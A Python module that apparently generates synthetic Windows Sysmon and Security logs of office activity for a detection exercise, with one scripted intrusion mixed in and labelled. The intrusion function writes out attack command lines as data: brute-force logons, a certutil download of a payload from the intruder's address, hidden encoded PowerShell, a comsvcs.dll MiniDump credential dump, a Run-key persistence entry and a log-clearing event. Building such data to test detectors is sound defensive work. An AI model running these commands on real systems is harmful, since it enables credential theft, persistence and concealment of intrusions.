"""Days of an office's Windows machines: people at work, and an intrusion among them.

One JSON object a line with the names of Sysmon's and Security's events, as collectors write
them. Every address is private or from a documentation range; no command works anywhere.
"""

import base64
import random
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta

import orjson

from detente.node.exercise.web_days import Days

Row = tuple[datetime, dict[str, object]]

DAYS = 2.5
REFUSED = 12  # logons before the one that is let in
TOUCHED = 2  # what else an address leaves that nobody would look at
_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_SECURITY = "Security"
_PEOPLE = ("a.hale", "b.ito", "c.jung", "d.kerr", "e.lund", "f.moss")
_SYSTEM32 = "C:\\Windows\\System32\\"
_EXPLORER = "C:\\Windows\\explorer.exe"
_BROWSER = "C:\\Program Files\\Browser\\browser.exe"
_WRITER = "C:\\Program Files\\Office\\WINWORD.EXE"
_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
# What is started, how, and by what.
_PROGRAMS = (
    (_WRITER, '"WINWORD.EXE" /n minutes.docx', _EXPLORER),
    (_BROWSER, '"browser.exe" --type=renderer', _BROWSER),
    (_SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs -p", _SYSTEM32 + "services.exe"),
    # Tools that an intruder uses as well.
    (_SYSTEM32 + "certutil.exe", "certutil.exe -dump county.cer", _EXPLORER),
    (_POWERSHELL, "powershell.exe -File C:\\Tools\\backup.ps1", _EXPLORER),
)


def windows_days(
    chance: random.Random,
    until: datetime,
    *,
    events: int,
    intruded_by: str = "",
    touched_by: Sequence[str] = (),
) -> Days:
    """Return the events of some machines, the last before a time.

    Args:
        chance: their dice.
        until: aware; every event is before.
        events: how many of people at work.
        intruded_by: address from which one guesses, is let in, and stays; empty for nobody.
        touched_by: addresses that each leave `TOUCHED` events nobody would look at.
    """
    rows = [_at_work(chance, _moment(chance, until)) for _number in range(events)]
    harm: list[Row] = []
    if intruded_by:
        harm += _intrusion(intruded_by, until - timedelta(hours=chance.uniform(5, 30)))
    for address in touched_by:
        rows += [
            _refused(_moment(chance, until), "WS-02", address, "guest"),
            _connection(_moment(chance, until), "WS-04", _BROWSER, address, 443),
        ]
    rows = sorted([*rows, *harm], key=lambda row: row[0])
    lines = [_line(number, *row) for number, row in enumerate(rows, start=1)]
    meant = {id(event) for _, event in harm}
    bad = (line for line, (_, event) in zip(lines, rows, strict=True) if id(event) in meant)
    return Days(b"".join(lines), frozenset(line.rstrip() for line in bad))


def _line(number: int, moment: datetime, event: dict[str, object]) -> bytes:
    said = moment.astimezone(UTC)
    whole = {
        "SystemTime": f"{said:%Y-%m-%dT%H:%M:%S}.{said.microsecond:06d}Z",
        "EventRecordID": number,
        **event,
    }
    return orjson.dumps(whole, option=orjson.OPT_APPEND_NEWLINE)


def _moment(chance: random.Random, until: datetime) -> datetime:
    return until - timedelta(seconds=chance.uniform(60, DAYS * 86_400))


def _at_work(chance: random.Random, moment: datetime) -> Row:
    machine, person = f"WS-{chance.randrange(1, 9):02d}", chance.choice(_PEOPLE)
    inside = f"10.20.0.{chance.randrange(10, 90)}"
    match chance.randrange(10):
        case 0:
            return _refused(moment, machine, inside, person)
        case 1 | 2:
            return _let_in(moment, machine, inside, person)
        case 3 | 4:
            return _connection(
                moment, machine, _BROWSER, f"192.0.2.{chance.randrange(1, 200)}", 443
            )
        case 5:
            key = "HKU\\S-1-5-21\\Software\\Office\\Recent"
            return _registry(moment, machine, _WRITER, key, "minutes.docx")
        case _:
            return _process(moment, machine, person, *chance.choice(_PROGRAMS))


def _intrusion(address: str, begin: datetime) -> Iterator[Row]:
    """Yield one intrusion: guessed, let in, tools fetched, passwords taken, stayed, log cleared."""
    machine, person = "WS-03", "svc-scan"
    shell, user = _SYSTEM32 + "cmd.exe", "C:\\Users\\Public\\"
    hidden = base64.b64encode("IEX (fetch from the address above)".encode("utf-16-le")).decode()

    def after(seconds: float) -> datetime:
        return begin + timedelta(seconds=seconds)

    for number in range(REFUSED):
        yield _refused(after(number * 61), machine, address, person)
    yield _let_in(after(900), machine, address, person, logon_type=10)
    yield _process(after(960), machine, person, shell, "cmd.exe", _EXPLORER)
    fetch = f"certutil.exe -urlcache -split -f http://{address}/u.png {user}u.exe"
    yield _process(after(1_010), machine, person, _SYSTEM32 + "certutil.exe", fetch, shell)
    yield _connection(after(1_011), machine, _SYSTEM32 + "certutil.exe", address, 80)
    yield _file(after(1_012), machine, _SYSTEM32 + "certutil.exe", user + "u.exe")
    encoded = f"powershell.exe -nop -w hidden -enc {hidden}"
    yield _process(after(1_100), machine, person, _POWERSHELL, encoded, shell)
    dump = f"rundll32.exe comsvcs.dll, MiniDump 612 {user}d.bin full"
    yield _process(after(1_300), machine, person, _SYSTEM32 + "rundll32.exe", dump, _POWERSHELL)
    key = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updates"
    yield _registry(after(1_400), machine, _POWERSHELL, key, user + "u.exe")
    yield _connection(after(1_500), machine, user + "u.exe", address, 443)
    yield (
        after(1_800),
        _event(_SECURITY, "Microsoft-Windows-Eventlog", 1102, machine)
        | {"SubjectUserName": person},
    )


def _event(channel: str, provider: str, number: int, machine: str) -> dict[str, object]:
    return {
        "Channel": channel,
        "Provider_Name": provider,
        "EventID": number,
        "Computer": f"{machine}.office.example",
    }


def _sysmon(moment: datetime, machine: str, number: int, image: str) -> dict[str, object]:
    return _event(_SYSMON, "Microsoft-Windows-Sysmon", number, machine) | {
        "UtcTime": f"{moment.astimezone(UTC):%Y-%m-%d %H:%M:%S}.000",
        "ProcessId": 1_000 + moment.second * 8,
        "Image": image,
    }


def _process(
    moment: datetime, machine: str, person: str, image: str, command: str, parent: str
) -> Row:
    return moment, _sysmon(moment, machine, 1, image) | {
        "CommandLine": command,
        "OriginalFileName": image.rpartition("\\")[2],
        "User": f"OFFICE\\{person}",
        "IntegrityLevel": "Medium",
        "ParentImage": parent,
        "ParentCommandLine": parent.rpartition("\\")[2],
    }


def _connection(moment: datetime, machine: str, image: str, address: str, port: int) -> Row:
    return moment, _sysmon(moment, machine, 3, image) | {
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "10.20.0.13",
        "DestinationIp": address,
        "DestinationPort": port,
    }


def _file(moment: datetime, machine: str, image: str, path: str) -> Row:
    return moment, _sysmon(moment, machine, 11, image) | {"TargetFilename": path}


def _registry(moment: datetime, machine: str, image: str, key: str, value: str) -> Row:
    changed = {"EventType": "SetValue", "TargetObject": key, "Details": value}
    return moment, _sysmon(moment, machine, 13, image) | changed


def _logon(number: int, machine: str, address: str, person: str) -> dict[str, object]:
    return _event(_SECURITY, "Microsoft-Windows-Security-Auditing", number, machine) | {
        "TargetUserName": person,
        "TargetDomainName": "OFFICE",
        "LogonType": 3,
        "IpAddress": address,
        "LogonProcessName": "NtLmSsp",
        "AuthenticationPackageName": "NTLM",
    }


def _refused(moment: datetime, machine: str, address: str, person: str) -> Row:
    return moment, _logon(4625, machine, address, person) | {"SubStatus": "0xc000006a"}


def _let_in(
    moment: datetime, machine: str, address: str, person: str, *, logon_type: int = 3
) -> Row:
    return moment, _logon(4624, machine, address, person) | {"LogonType": logon_type}
